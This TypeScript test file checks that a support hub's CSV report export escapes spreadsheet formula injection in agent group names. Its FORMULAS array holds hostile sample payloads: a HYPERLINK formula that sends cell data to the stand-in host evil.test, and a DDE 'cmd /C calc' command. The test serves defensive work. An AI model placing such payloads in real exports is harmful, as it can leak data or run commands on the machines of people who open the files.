import { describe, expect, it } from 'vitest';
import { reportToCsv } from '../../packages/sdk/src/metrics/export-formats.ts';
import type { Report } from '../../packages/sdk/src/metrics/report.ts';
import { agent, rawSocket, until } from '../../packages/sdk/src/testing/hub-fixture.ts';
import { AGENTS, SHOP_ORIGIN, startHubProcess } from './hub-process.ts';

// Finding 15: a report key is text someone chose (here a group an agent transfers a conversation
// to). The console turns the hub's report into a CSV for the merchant's spreadsheet: a key that
// starts with a tab or a carriage return before `=` must not run as a formula there either.

const FORMULAS = ['\t=HYPERLINK("http://evil.test/?"&A1,"open")', "\r=cmd|' /C calc'!A0", '\n@SUM(1+1)'];

/** The cells of a CSV line, read as a spreadsheet does (RFC 4180 quoting). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted && ch === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') quoted = !quoted;
    else if (ch === ',' && !quoted) {
      out.push(cell);
      cell = '';
    } else cell += ch;
  }
  out.push(cell);
  return out;
}

/** Splits a CSV into lines on the CRLFs outside quotes. */
function lines(csv: string): string[] {
  const out: string[] = [];
  let quoted = false;
  let start = 0;
  for (let i = 0; i < csv.length; i++) {
    if (csv[i] === '"') quoted = !quoted;
    else if (!quoted && csv[i] === '\r' && csv[i + 1] === '\n') {
      out.push(csv.slice(start, i));
      start = i + 2;
      i++;
    }
  }
  return out;
}

describe('an agent injects a formula into the CSV export', () => {
  it('gets a leading quote before a tab, carriage return or line feed that hides the formula', async () => {
    const hub = await startHubProcess({
      options: {
        routing: { assignment: 'manual', router: { defaultGroup: 'general' } },
        // A transfer goes only to a group some agent is in: here, groups named like formulas.
        agents: [
          ...Object.values(AGENTS),
          { id: 'fx', name: 'Fx', groups: FORMULAS, token: 'fx-token-6b1d9e3a7c5f2e8a4d0b' },
        ],
      },
    });
    const alice = agent(hub.wsUrl, AGENTS.alice.token);
    const sue = agent(hub.wsUrl, AGENTS.sue.token);
    try {
      await alice.connect();
      await sue.connect();
      for (const [i, group] of FORMULAS.entries()) {
        const sock = await rawSocket(`${hub.wsUrl}/?site=shop`, SHOP_ORIGIN);
        sock.send({ v: 1, type: 'hello', role: 'shopper', siteKey: 'shop', deviceId: `csv-device-${i}` });
        const welcome = (await sock.next('welcome')) as { conversation: { id: string } };
        sock.send({ v: 1, type: 'send', clientMsgId: 'c1', content: { kind: 'text', text: '转人工' } });
        await until(
          () =>
            sock.frames.some(
              (f) => f.type === 'state' && (f.state as { status: string }).status === 'queued',
            ),
          'queued',
        );
        await alice.accept(welcome.conversation.id);
        await alice.transfer(welcome.conversation.id, { group });
        // Once someone takes it in that group, the report counts it under the group's name.
        await sue.accept(welcome.conversation.id);
        sock.ws.close();
      }
    } finally {
      alice.disconnect();
      sue.disconnect();
    }
    const report = (await hub.admin('report', {
      from: 0,
      to: Date.now() + 60_000,
      groupBy: 'group',
    })) as Report;
    expect(report.rows.map((r) => r.key)).toEqual(expect.arrayContaining(FORMULAS));

    const keys = lines(reportToCsv(report))
      .slice(1)
      .map((line) => cells(line)[0]!);
    for (const formula of FORMULAS) expect(keys).toContain(`'${formula}`);
    // No key cell starts with anything a spreadsheet reads as (or skips before) a formula.
    for (const key of keys) expect(key).not.toMatch(/^[=+\-@\t\r\n]/);
  });
});
